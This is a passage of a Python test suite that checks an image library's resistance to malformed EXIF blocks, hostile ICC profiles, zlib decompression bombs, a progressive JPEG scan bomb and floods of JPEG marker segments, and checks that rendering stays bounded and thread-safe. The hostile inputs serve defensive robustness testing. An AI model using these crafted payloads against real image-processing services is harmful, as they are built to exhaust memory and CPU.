    "orientation-9": images.exif_block(images.tiff_ifd([(ORIENTATION, SHORT, 1, 9)])),
    "orientation-0": images.exif_block(images.tiff_ifd([(ORIENTATION, SHORT, 1, 0)])),
    "orientation-65535": images.exif_block(images.tiff_ifd([(ORIENTATION, SHORT, 1, 0xFFFF)])),
    "orientation-at-out-of-bounds-offset": images.exif_block(images.tiff_ifd([(ORIENTATION, SHORT, 2, 0x7FFF_FFF0)])),
    "big-endian-garbage": _be(images.exif_block(images.tiff_ifd([(ORIENTATION, SHORT, 1, 6)], next_ifd=8))),
    "header-only": b"II*\0",
    "empty": b"",
    "random": random.Random(7).randbytes(4096),
}


def exif_in(fmt: str, block: bytes) -> bytes:
    picture = images.arrow_picture((600, 400))
    if fmt == "JPEG":
        # Pillow writes APP1 without the Exif\0\0 identifier that marks it as EXIF; add it.
        return images.encode(picture, "JPEG", quality=92, exif=b"Exif\0\0" + block)
    if fmt == "PNG":
        return images.png_with_chunks(arrow_png(), [images.png_chunk(b"eXIf", block)])
    return images.encode(picture, "WEBP", quality=90, exif=block)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("variant", sorted(MALFORMED_EXIF))
def test_malformed_exif_reads_as_orientation_1(variant: str, fmt: str) -> None:
    outcome = sandbox.run(exif_in(fmt, MALFORMED_EXIF[variant]), "medium")
    check(outcome, OK, max_rss=SMALL_RSS)
    assert outcome.facts["orientation"] == 1
    assert (outcome.facts["width"], outcome.facts["height"]) == (600, 400)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_exif_control_a_well_formed_orientation_is_read(fmt: str) -> None:
    # The same injection with orientation 6 turns the picture: the malformed cases above reach the EXIF reader.
    outcome = sandbox.run(exif_in(fmt, images.exif_block(images.tiff_ifd([(ORIENTATION, SHORT, 1, 6)]))), "medium")
    check(outcome, OK, max_rss=SMALL_RSS)
    assert outcome.facts["orientation"] == 6
    assert (outcome.facts["width"], outcome.facts["height"]) == (400, 600)


def test_huge_png_exif_chunk() -> None:
    # 8 MB of eXIf declaring 65535 entries of zeros: read (it is in the file anyway), bounded, orientation 1.
    block = images.exif_block(images.tiff_ifd([]) + b"\0" * (8 * MiB), entry_count=0xFFFF)
    outcome = sandbox.run(images.png_with_chunks(arrow_png(), [images.png_chunk(b"eXIf", block)]), "medium")
    check(outcome, OK)
    assert outcome.facts["orientation"] == 1


# --- huge or garbage ICC profiles -----------------------------------------------------------------------------------


def _xyz(x: float, y: float, z: float) -> bytes:
    return b"XYZ \0\0\0\0" + struct.pack(">iii", *(round(v * 65536) for v in (x, y, z)))


_CURVE = b"curv\0\0\0\0" + struct.pack(">IH", 1, 0x0233)  # gamma 2.2
_MATRIX_SHAPER = [
    (b"rXYZ", _xyz(0.4361, 0.2225, 0.0139)),
    (b"gXYZ", _xyz(0.3851, 0.7169, 0.0971)),
    (b"bXYZ", _xyz(0.1431, 0.0606, 0.7141)),
    (b"wtpt", _xyz(0.9642, 1.0, 0.8249)),
    (b"rTRC", _CURVE),
    (b"gTRC", _CURVE),
    (b"bTRC", _CURVE),
]


def _with_tag(signature: bytes, payload: bytes) -> list[tuple[bytes, bytes]]:
    return [(s, payload if s == signature else p) for s, p in _MATRIX_SHAPER] + (
        [] if any(s == signature for s, _ in _MATRIX_SHAPER) else [(signature, payload)]
    )


def _tag_offset_out_of_bounds() -> bytes:
    profile = bytearray(images.icc_profile(_MATRIX_SHAPER))
    profile[128 + 4 + 4 : 128 + 4 + 8] = struct.pack(">I", 0xFFFF_FF00)  # the first tag's offset
    return bytes(profile)


# lut16 declaring a 255^3 grid of 3 outputs and 4096-entry curves (~100 MB of tables), with none of the data.
_LUT16_HUGE = (
    b"mft2\0\0\0\0"
    + bytes([3, 3, 255, 0])
    + struct.pack(">9i", *([65536, 0, 0, 0, 65536, 0, 0, 0, 65536]))
    + struct.pack(">HH", 4096, 4096)
)
# lutAtoB whose CLUT (offset 32) declares a 255x255x255 grid of 2-byte entries, and offsets past the end.
_MAB_HUGE = (
    b"mAB \0\0\0\0"
    + bytes([3, 3, 0, 0])
    + struct.pack(">5I", 0x7FFF_FFF0, 0, 0, 32, 0)
    + bytes([255] * 3 + [0] * 13)
    + bytes([2, 0, 0, 0])
)

HOSTILE_PROFILES: dict[str, Callable[[], bytes]] = {
    "garbage-100KB": lambda: random.Random(11).randbytes(100_000),
    "tag-count-4G": lambda: images.icc_profile(_MATRIX_SHAPER, tag_count=0xFFFF_FFFF),
    "declared-size-4G": lambda: images.icc_profile(_MATRIX_SHAPER, size=0xFFFF_FFFF),
    "declared-size-0": lambda: images.icc_profile(_MATRIX_SHAPER, size=0),
    "tag-offset-out-of-bounds": _tag_offset_out_of_bounds,
    "curve-count-4G": lambda: images.icc_profile(
        _with_tag(b"rTRC", b"curv\0\0\0\0" + struct.pack(">I", 0xFFFF_FFFF) + b"\0\0")
    ),
    "parametric-type-65535": lambda: images.icc_profile(
        _with_tag(b"gTRC", b"para\0\0\0\0" + struct.pack(">HH", 0xFFFF, 0))
    ),
    "lut16-255-grid-no-data": lambda: images.icc_profile(_with_tag(b"A2B0", _LUT16_HUGE)),
    "mAB-255-grid-no-data": lambda: images.icc_profile(_with_tag(b"A2B0", _MAB_HUGE)),
    "cmyk-lut16-255-grid-on-rgb": lambda: images.icc_profile([(b"A2B0", _LUT16_HUGE)], colour_space=b"CMYK"),
    # Just under the 4 MiB profile cap: a 2M-entry curve, parsed and applied (or refused) within bounds.
    "curve-2M-entries": lambda: images.icc_profile(
        _with_tag(b"rTRC", b"curv\0\0\0\0" + struct.pack(">I", 2_000_000) + bytes(4_000_000))
    ),
}


def icc_in(fmt: str, profile: bytes) -> bytes:
    if fmt == "JPEG":
        return images.jpeg_with_icc(arrow_jpeg((64, 48)), profile)
    picture = images.arrow_picture((64, 48))
    if fmt == "PNG":
        return images.encode(picture, "PNG", icc_profile=profile)
    return images.encode(picture, "WEBP", lossless=True, icc_profile=profile)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("variant", sorted(HOSTILE_PROFILES))
def test_hostile_icc_profile_is_ignored_or_applied(variant: str, fmt: str) -> None:
    outcome = sandbox.run(icc_in(fmt, HOSTILE_PROFILES[variant]()))
    check(outcome, OK, max_rss=SMALL_RSS)
    assert (outcome.facts["width"], outcome.facts["height"]) == (64, 48)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_icc_control_a_well_formed_profile_is_applied(fmt: str) -> None:
    # Red and blue primaries swapped: the red quadrant must come out blue, so the hostile profiles above (built on
    # the same matrix-shaper) do reach the colour-management code in each format.
    swapped = [(b"rXYZ", p) if s == b"bXYZ" else (b"bXYZ", p) if s == b"rXYZ" else (s, p) for s, p in _MATRIX_SHAPER]
    outcome = sandbox.run(icc_in(fmt, images.icc_profile(swapped)))
    check(outcome, OK, max_rss=SMALL_RSS)
    im = images.decode(outcome.output)
    assert images.close(images.mean_colour(im, images.quadrant_box(im.size, "tl")), BLUE, 40)


def _cmyk_jpeg_with(profile: bytes) -> bytes:
    return images.jpeg_with_icc(images.encode(Image.new("CMYK", (64, 48), (0, 255, 255, 0)), "JPEG"), profile)


HUGE_ICC = [
    # 10 MB of APP2 chunks, consistently numbered: over the 4 MiB cap, so never concatenated or parsed.
    pytest.param(
        lambda: images.jpeg_with_icc(arrow_jpeg((64, 48)), random.Random(1).randbytes(10 * MiB)), id="jpeg-10MB-chain"
    ),
    # The most a chain can hold: 255 chunks of 65519 bytes.
    pytest.param(lambda: images.jpeg_with_icc(arrow_jpeg((64, 48)), bytes(255 * 65519)), id="jpeg-255-chunks"),
    # 300 chunks all claiming to be 1 of 1.
    pytest.param(
        lambda: images.jpeg_with_segments(
            arrow_jpeg((64, 48)), [images.jpeg_segment(0xE2, b"ICC_PROFILE\0\x01\x01" + bytes(60_000))] * 300
        ),
        id="jpeg-300-duplicate-chunks",
    ),
    pytest.param(
        lambda: _cmyk_jpeg_with(images.icc_profile([(b"A2B0", _LUT16_HUGE)], colour_space=b"CMYK")),
        id="cmyk-jpeg-hostile-lut",
    ),
    pytest.param(lambda: _cmyk_jpeg_with(random.Random(3).randbytes(50_000)), id="cmyk-jpeg-garbage"),
    # iCCP is zlib: 1 MB that inflates to 1 GB. The profile is inflated under a small cap, so it costs nothing.
    pytest.param(
        lambda: images.png_with_chunks(
            arrow_png((64, 48)), [images.png_chunk(b"iCCP", b"bomb\0\0" + images.deflate_zeros(1 << 30))]
        ),
        id="png-iccp-zlib-bomb-1GB",
    ),
    pytest.param(
        lambda: images.png_with_chunks(
            arrow_png((64, 48)), [images.png_chunk(b"zTXt", b"bomb\0\0" + images.deflate_zeros(1 << 30))]
        ),
        id="png-ztxt-zlib-bomb-1GB",
    ),
    pytest.param(
        lambda: images.encode(images.arrow_picture((64, 48)), "WEBP", lossless=True, icc_profile=bytes(20 * MiB)),
        id="webp-20MB-iccp",
    ),
    # Many tiny APP1 and APP2 segments: libjpeg's saved-marker list was quadratic in their number (minutes).
    pytest.param(
        lambda: images.jpeg_with_segments(arrow_jpeg((64, 48)), [images.jpeg_segment(0xE1, b"x")] * 200_000),
        id="jpeg-200000-app1",
    ),
    pytest.param(
        lambda: images.jpeg_with_segments(
            arrow_jpeg((64, 48)), [images.jpeg_segment(0xE2, b"ICC_PROFILE\0\x01\x01")] * 200_000
        ),
        id="jpeg-200000-icc-chunks",
    ),
    pytest.param(
        lambda: images.jpeg_with_segments(arrow_jpeg((64, 48)), [images.jpeg_segment(0xEE, b"Adobe")] * 200_000),
        id="jpeg-200000-app14",
    ),
]


@pytest.mark.parametrize("factory", HUGE_ICC)
def test_huge_metadata_is_bounded(factory: Factory) -> None:
    data = factory()
    outcome = sandbox.run(data)
    # The input itself is resident (up to 20 MB here); beyond it, little.
    check(outcome, OK, max_rss=SMALL_RSS + len(data))
    assert (outcome.facts["width"], outcome.facts["height"]) == (64, 48)


# --- the GIL is released, and concurrent failures stay independent -------------------------------------------------

_CONCURRENT = r"""
import threading

import kiray_imaging

paths = json.loads(sys.argv[1])
inputs = {name: open(path, "rb").read() for name, path in paths.items()}


def outcome(name):
    try:
        r = kiray_imaging.render(inputs[name], "thumbnail")
    except kiray_imaging.ImageError as e:
        return type(e).__name__
    return r.data


# 1. A long native render (the scan bomb, ~0.5 s before the limit stops it) must not hold the GIL: a Python thread
#    keeps ticking meanwhile.
ticks = []
stop = threading.Event()


def tick():
    while not stop.is_set():
        ticks.append(time.perf_counter())
        time.sleep(0.001)


ticker = threading.Thread(target=tick)
ticker.start()
time.sleep(0.05)
started = time.perf_counter()
long_kind = outcome("scan-bomb")
finished = time.perf_counter()
stop.set()
ticker.join()
during = [t for t in ticks if started <= t <= finished]
gaps = [b - a for a, b in zip([started, *during], [*during, finished])]

# 2. Failures that unwind through libjpeg (truncated, scan limit), limits and successes, on four threads at once,
#    must not disturb each other: every render gives what it gives alone, the good one byte for byte.
alone = {name: outcome(name) for name in inputs}
mismatches = []


def work(offset):
    names = sorted(inputs)
    for i in range(12):
        name = names[(i + offset) % len(names)]
        if outcome(name) != alone[name]:
            mismatches.append(name)


threads = [threading.Thread(target=work, args=(n,)) for n in range(4)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print(json.dumps({
    "long_kind": long_kind if isinstance(long_kind, str) else "ok",
    "long_seconds": finished - started,
    "longest_gap": max(gaps),
    "alone": {n: (k if isinstance(k, str) else "ok") for n, k in alone.items()},
    "mismatches": mismatches,
    "peak_rss_kb": peak_rss_kb(),
}))
"""


def test_gil_is_released_and_concurrent_failures_stay_independent(tmp_path: Path) -> None:
    inputs = {
        "scan-bomb": images.progressive_scan_bomb(4000, 4000, 1),
        "truncated-jpeg": arrow_jpeg()[: len(arrow_jpeg()) // 2],
        "arithmetic-jpeg": images.jpeg_with_sof(arrow_jpeg(), 0xC9),
        "png-bomb": images.png_bomb(100_000, 100_000),
        "svg": b"<svg/>",
        "good-jpeg": arrow_jpeg(),
        "good-png": arrow_png(),
    }
    paths = {}
    for name, data in inputs.items():
        path = tmp_path / name
        path.write_bytes(data)
        paths[name] = str(path)
    report = sandbox.run_script(_CONCURRENT, json.dumps(paths))

    assert report["long_kind"] == LIMIT
    assert report["long_seconds"] > 0.2, "the scan bomb was too quick to show anything"
    # With the GIL held for the whole render the ticker would stall for all of it.
    assert report["longest_gap"] < report["long_seconds"] / 4, report
    assert report["alone"] == {
        "scan-bomb": LIMIT,
        "truncated-jpeg": DECODE,
        "arithmetic-jpeg": UNSUPPORTED,
        "png-bomb": LIMIT,
        "svg": UNSUPPORTED,
        "good-jpeg": OK,
        "good-png": OK,
    }
    assert report["mismatches"] == []
    assert report["peak_rss_kb"] * 1024 <= sandbox.MAX_RSS_BYTES
